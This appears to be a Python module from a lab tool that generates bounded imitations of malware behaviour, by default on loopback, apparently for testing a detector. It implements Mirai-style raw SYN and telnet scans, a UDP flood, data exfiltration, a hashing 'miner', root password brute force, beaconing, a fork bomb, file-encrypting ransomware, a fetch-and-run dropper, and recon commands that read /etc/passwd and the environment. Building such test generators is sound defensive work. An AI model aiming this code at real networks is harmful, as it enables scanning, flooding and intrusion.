"""What each attack of attacks.py does: a function each, in a Scene that bounds its time, its events and its targets."""

import contextlib
import hashlib
import ipaddress
import os
import random
import signal
import socket
import struct
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

from stonechat_tools.lab.bounds import Deadline
from stonechat_tools.lab.peers import PORTS, Peers

LOOPBACK_NETWORK = "127.77.0.0/16"
TIMEOUT_S = 2.0
MAX_EVENTS = 2_000_000  # packets, connections, files: no attack does more, however long it may run
MAX_CHILDREN = 150
MINER_REPORT_S = 3.0
VICTIM_FILES = 200
VICTIM_BYTES = 40_000
_PAYLOAD = "#!/bin/sh\nfor i in 1 2 3; do uname; id; cat /proc/cpuinfo; done\n"
_RECON = (
    "uname -a; id; cat /etc/passwd /etc/os-release; ls -la /tmp /home /root /etc; ps; df; env",
    "cat /proc/net/tcp /proc/net/arp /proc/version /proc/mounts; ls /dev /sys/class/net; find /etc -maxdepth 2",
)


class Scene:
    """Where an attack plays: whom it talks to, where it writes, and how long."""

    def __init__(
        self, seconds: float, target: str | None, folder: Path, seed: int, stack: contextlib.ExitStack
    ) -> None:
        self.deadline = Deadline(seconds, MAX_EVENTS)
        self.rng = random.Random(seed)
        self.folder = folder
        self.network = ipaddress.ip_network(target or LOOPBACK_NETWORK, strict=False)
        self._local = target is None
        self._stack = stack
        self._served: dict[tuple[str, str], int] = {}

    def begin(self) -> None:
        print("started", flush=True)

    def live(self) -> bool:
        return self.deadline.live()

    def pause(self, seconds: float) -> None:
        self.deadline.count()
        self.deadline.sleep(seconds)

    def anyone(self) -> str:
        """A random address of the network."""
        return str(self.network[self.rng.randrange(self.network.num_addresses)])

    def host(self, n: int) -> str:
        """The n-th well-known address of the network; a network of one address is that host."""
        return str(self.network[n % self.network.num_addresses])

    def known(self) -> str:
        """The host that the device talks to anyway."""
        return "127.0.0.1" if self._local else self.host(1)

    def device(self) -> str:
        """The device that the *_in attacks are aimed at."""
        return "127.0.0.1" if self._local else str(self.network[0])

    def port(self, host: str, service: str) -> int:
        """Where `service` is to be found on `host`; on loopback it is set up at the first call, unless a device
        already offers it."""
        if not self._local:
            return PORTS[service]
        if (host, service) not in self._served:
            self._served[host, service] = self._find_or_serve(host, service)
        return self._served[host, service]

    def connect(self, host: str, service: str) -> socket.socket:
        return socket.create_connection((host, self.port(host, service)), TIMEOUT_S)

    def _find_or_serve(self, host: str, service: str) -> int:
        if service == "login":
            with contextlib.suppress(OSError), socket.create_connection((host, PORTS[service]), TIMEOUT_S):
                return PORTS[service]
        return self._stack.enter_context(Peers(host, (service,))).ports[service]


def scan_connect(scene: Scene, burst: int = 16, every_s: float = 0.1) -> None:
    scene.begin()
    while scene.live():
        for _ in range(burst):
            with socket.socket() as sock:
                sock.setblocking(False)
                port = 23 if scene.rng.random() < 0.9 else 2323
                sock.connect_ex((scene.anyone(), port))
                time.sleep(0.001)
        scene.deadline.count(burst - 1)
        scene.pause(max(0.0, every_s - 0.001 * burst))


def scan_1ps(scene: Scene) -> None:
    scan_connect(scene, burst=1, every_s=1.0)


def scan_raw(scene: Scene) -> None:
    """SYNs that the kernel's TCP knows nothing of, as Mirai sends them."""
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    except PermissionError:
        raise PermissionError("scan_raw needs root or CAP_NET_RAW") from None
    with raw, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((scene.host(1), 9))
        own = socket.inet_aton(probe.getsockname()[0])
        scene.begin()
        while scene.live():
            for _ in range(16):
                address = scene.anyone()
                with contextlib.suppress(OSError):  # a broadcast address, a full queue
                    raw.sendto(_syn(own, socket.inet_aton(address), scene.rng.randrange(1 << 32)), (address, 0))
            scene.deadline.count(15)
            scene.pause(0.1)


def _syn(source: bytes, target: bytes, sequence: int) -> bytes:
    header = struct.pack("!HHIIBBHHH", 40000, 23, sequence, 0, 0x50, 2, 1024, 0, 0)
    summed = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(header)) + header
    total = sum(struct.unpack(f"!{len(summed) // 2}H", summed))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return header[:16] + struct.pack("!H", ~total & 0xFFFF) + header[18:]


def udp_flood(scene: Scene) -> None:
    victim = scene.host(258)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        scene.begin()
        while scene.live():
            for _ in range(50):
                with contextlib.suppress(OSError):
                    sock.sendto(bytes(512), (victim, scene.rng.randrange(1024, 60000)))
            scene.deadline.count(49)
            scene.pause(0.01)


def _exfiltrate(scene: Scene, host: str, chunk_bytes: int, every_s: float) -> None:
    with scene.connect(host, "sink") as sock:
        scene.begin()
        while scene.live():
            sock.sendall(scene.rng.randbytes(chunk_bytes))
            scene.pause(every_s)


def exfil_burst(scene: Scene) -> None:
    _exfiltrate(scene, scene.host(1285), 20_000, 0.01)


def exfil_slow(scene: Scene) -> None:
    _exfiltrate(scene, scene.host(1286), 4_000, 1.0)


def exfil_400bps(scene: Scene) -> None:
    _exfiltrate(scene, scene.host(1287), 400, 1.0)


def exfil_via_known_peer(scene: Scene) -> None:
    _exfiltrate(scene, scene.known(), 2_000, 1.0)


def miner(scene: Scene) -> None:
    """SHA-256 without end on half of the cores, and a share reported to the pool every three seconds."""
    others = [_fork(lambda: _hash(Deadline(scene.deadline.left_s()))) for _ in range(_cores() // 2 - 1)]
    try:
        _mine(scene, 1.0)
    finally:
        for pid in others:
            _end(pid)


def miner_5pct(scene: Scene) -> None:
    _mine(scene, 0.05)


def _mine(scene: Scene, work_share: float) -> None:
    with scene.connect(scene.host(1542), "echo") as pool:
        scene.begin()
        while scene.live():
            turn = Deadline(min(MINER_REPORT_S, scene.deadline.left_s()))
            nonce = _hash(turn, work_share)
            pool.sendall(b"share %d" % nonce)
            pool.recv(64)


def _hash(deadline: Deadline, work_share: float = 1.0) -> int:
    nonce = 0
    while deadline.live():
        start_s = time.monotonic()
        for _ in range(2000):
            hashlib.sha256(b"%d" % nonce).digest()
            nonce += 1
        worked_s = time.monotonic() - start_s
        if work_share < 1:
            deadline.sleep(worked_s * (1 - work_share) / work_share)
    return nonce


def _cores() -> int:
    return len(os.sched_getaffinity(0))


def _guess(scene: Scene, host: str, service: str) -> None:
    with contextlib.suppress(OSError), scene.connect(host, service) as sock:
        sock.sendall(b"root:%04d\n" % scene.rng.randrange(10_000))
        sock.recv(64)


def brute_in(scene: Scene, every_s: float = 0.05) -> None:
    scene.port(scene.device(), "login")
    scene.begin()
    while scene.live():
        _guess(scene, scene.device(), "login")
        scene.pause(every_s)


def brute_in_1per5s(scene: Scene) -> None:
    brute_in(scene, 5.0)


def brute_out(scene: Scene) -> None:
    hosts = [scene.host(1792 + n) for n in range(1, 9)]
    for host in hosts:
        scene.port(host, "echo")
    scene.begin()
    while scene.live():
        _guess(scene, scene.rng.choice(hosts), "echo")
        scene.pause(0.1)


def portsweep_in(scene: Scene) -> None:
    scene.begin()
    port = 0
    while scene.live():
        port = port % 65535 + 1
        with contextlib.suppress(OSError), socket.create_connection((scene.device(), port), 0.2):
            pass
        scene.pause(0.01)


def beacon(scene: Scene, host: str | None = None, every_s: float = 5.0) -> None:
    host = host or scene.host(257)
    scene.port(host, "echo")
    scene.begin()
    while scene.live():
        with contextlib.suppress(OSError), scene.connect(host, "echo") as sock:
            sock.sendall(scene.rng.randbytes(100))
            sock.recv(200)
        scene.pause(every_s)


def beacon_60s_known(scene: Scene) -> None:
    beacon(scene, scene.known(), 60.0)


def forkbomb(scene: Scene) -> None:
    """Forty forks a second, never more than MAX_CHILDREN alive; each child ends itself by the deadline, too."""
    children: list[int] = []
    scene.begin()
    try:
        while scene.live():
            if len(children) == MAX_CHILDREN:
                _end(children.pop(0))
            children.append(_fork(lambda: time.sleep(scene.deadline.left_s())))
            scene.pause(0.025)
    finally:
        for pid in children:
            _end(pid)


def _fork(work: Callable[[], object]) -> int:
    """Do `work` in a child -> its process id. Nothing of the parent's is unwound in the child."""
    pid = os.fork()
    if pid == 0:
        try:
            signal.signal(signal.SIGTERM, signal.SIG_DFL)
            work()
        finally:
            os._exit(0)
    return pid


def _end(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


def ransom(scene: Scene, every_s: float = 0.01) -> None:
    """Encrypts its own files, over and over: read, write beside, fsync, unlink."""
    files = [scene.folder / f"letter{n:03d}.dat" for n in range(VICTIM_FILES)]
    for file in files:
        with file.open("wb") as out:  # the victims are there before the attack is
            out.write(scene.rng.randbytes(VICTIM_BYTES))
            out.flush()
            os.fsync(out.fileno())
    time.sleep(0.5)
    scene.begin()
    n = 0
    while scene.live():
        files[n] = _encrypt(files[n])
        n = (n + 1) % VICTIM_FILES
        scene.pause(every_s)


def _encrypt(file: Path) -> Path:
    text = file.read_bytes()
    key = hashlib.sha256(file.name.encode()).digest() * (len(text) // 32)
    cipher = int.from_bytes(text, "little") ^ int.from_bytes(key, "little")
    other = file.with_suffix(".dat" if file.suffix == ".enc" else ".enc")
    with other.open("wb") as out:
        out.write(cipher.to_bytes(len(text), "little"))
        out.flush()
        os.fsync(out.fileno())
    file.unlink()
    return other


def ransom_1ps(scene: Scene) -> None:
    ransom(scene, 1.0)


def download_exec(scene: Scene) -> None:
    """A dropper: fetch, write, make executable, run."""
    host = scene.host(2056)
    scene.port(host, "http")
    dropped = scene.folder / "update"
    scene.begin()
    while scene.live():
        with contextlib.suppress(OSError), scene.connect(host, "http") as sock:
            sock.sendall(b"GET /firmware HTTP/1.0\r\n\r\n")
            while sock.recv(65536):
                pass
        dropped.write_text(_PAYLOAD)
        dropped.chmod(0o755)
        _run(["sh", "-c", '"$0" || sh "$0"', str(dropped)])  # the second where the medium is mounted noexec
        scene.pause(2.0)


def shell_recon(scene: Scene) -> None:
    scene.begin()
    n = 0
    while scene.live():
        _run(["sh", "-c", _RECON[n % len(_RECON)]])
        n += 1
        scene.pause(1.0)


def _run(command: list[str]) -> None:
    with contextlib.suppress(subprocess.TimeoutExpired, OSError):
        subprocess.run(
            command,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=5,
            check=False,
        )
